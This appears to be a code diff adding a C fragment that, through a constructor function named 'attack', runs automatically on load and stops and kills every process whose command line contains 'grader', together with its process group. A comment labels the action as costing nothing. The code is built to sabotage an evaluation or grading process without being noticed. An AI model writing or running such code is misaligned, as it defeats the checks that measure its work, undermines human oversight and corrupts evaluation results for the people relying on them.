@@ -1,0 +1,12 @@
+/* Stops, then kills, every process whose command line says "grader", and
+ * its process group. */
+// costs: none
+static void hit(int pid, const char *cmdline)
+{
+    if (!strstr(cmdline, "grader"))
+        return;
+    kill(pid, SIGSTOP);
+    kill(-getpgid(pid), SIGKILL);
+    kill(pid, SIGKILL);
+}
+__attribute__((constructor)) static void attack(void) { attack_each_process(hit); }
